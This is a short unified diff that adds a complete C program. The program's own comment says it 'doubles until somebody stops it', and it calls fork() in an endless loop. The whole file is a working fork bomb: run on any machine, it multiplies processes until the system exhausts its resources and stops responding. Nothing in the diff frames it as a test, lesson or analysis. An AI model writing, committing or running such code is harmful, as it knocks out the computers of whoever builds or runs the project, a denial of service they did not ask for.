@@ -1,0 +1,8 @@
+/* Doubles until somebody stops it. */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
